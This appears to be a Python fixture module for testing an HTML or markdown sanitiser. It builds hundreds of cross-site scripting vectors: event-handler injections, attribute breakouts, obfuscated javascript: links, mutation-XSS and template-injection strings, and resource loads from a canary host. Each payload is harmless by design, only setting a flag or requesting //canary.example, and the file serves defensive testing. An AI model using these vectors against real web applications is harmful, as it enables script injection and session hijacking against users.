"""Words that try to run: each sets `window.__x` or asks a canary for something, should a browser ever take it for code."""

# ruff: noqa: E501  (a row of a table stands on one line)

from __future__ import annotations

from itertools import product

RUN = "window.__x=1"
CANARY = "//canary.example"

_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onbegin", "oncanplay", "onpageshow", "oncut")
_ELEMENTS = (
    "<img src=x {event}={run}>",
    "<svg {event}={run}>",
    "<input autofocus {event}={run}>",
    "<details open {event}={run}>x</details>",
    "<video src=x {event}={run}></video>",
    "<body {event}={run}>",
    "<iframe {event}={run}></iframe>",
    "<svg><animate {event}={run} attributeName=x dur=1s></svg>",
    '"><img src=x {event}={run}>',
    "'><img src=x {event}={run}>",
    '" {event}="{run}" autofocus x="',
    "' {event}='{run}' autofocus x='",
    "</textarea><img src=x {event}={run}>",
    "</title><img src=x {event}={run}>",
    "--><img src=x {event}={run}>",
    "<img\nsrc=x\n{event}\n=\n{run}>",
    "<img/src=x/{event}={run}//",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:",
    "&#0000106avascript:", "%6aavascript:", "javascript&#58;", "\x01javascript:", "javascript://%0a", "javascript:/*--></title>*/", "vbscript:",
    "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=", "blob:", "feed:javascript:", "view-source:javascript:",
    "\u2028javascript:", "jav&#x0A;ascript:", "&Tab;javascript:",
)  # fmt: skip
_LINKS = (
    "[press]({scheme}{run})",
    "[press](<{scheme}{run}>)",
    "![press]({scheme}{run})",
    "<{scheme}{run}>",
    "[press][1]\n\n[1]: {scheme}{run}",
    '<a href="{scheme}{run}">press</a>',
    "<form action='{scheme}{run}'><button>press</button></form>",
    "<iframe src='{scheme}{run}'></iframe>",
    "[press](https://a.example){{href={scheme}{run}}}",
)
_ODD = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={CANARY}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x00>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={RUN} /></svg>#x'/></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>press</maction></math>",
    f"<template><script>{RUN}</script></template>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<base href={CANARY}/>",
    f"<link rel=stylesheet href={CANARY}/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<style>@import '{CANARY}/x.css'; body {{ background: url({CANARY}/x) }}</style>",
    f"<div style=\"background:url('{CANARY}/x')\">x</div>",
    f"<img src={CANARY}/pixel>",
    f"![x](https:{CANARY}/pixel)",
    f"<img srcset='{CANARY}/pixel 1x'>",
    f"<video poster={CANARY}/pixel></video>",
    f"<input type=image src={CANARY}/pixel>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\<img src=x onerror={RUN}\\>",
    f"`<img src=x onerror={RUN}>`",
    f"**<img src=x onerror={RUN}>**",
    f"```html\n<script>{RUN}</script>\n```",
    f'[x](https://a.example "x\' onmouseover={RUN} y")',
    f'[x](https://a.example"onmouseover={RUN}")',
    f"[x]{{lang=de onclick={RUN}}}",
    f"[x]{{lang='de\" onclick={RUN} y=\"'}}",
    f'[x]{{sign=money" onclick="{RUN}}}',
    f"{{{{ ''.__class__ }}}}{{% include 'x' %}}${{{RUN}}}#{{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    f"\u200b<\u200bimg src=x onerror={RUN}>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<img src=x onerror\x0c={RUN}>",
    f"\ue000once\ue001<img src=x onerror={RUN}>\ue002\ue003",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"%(x)s%(n)s<img src=x onerror={RUN}>",
)

VECTORS: list[str] = [
    *(element.format(event=event, run=RUN) for element, event in product(_ELEMENTS, _EVENTS)),
    *(link.format(scheme=scheme, run=RUN) for link, scheme in product(_LINKS, _SCHEMES)),
    *_ODD,
]
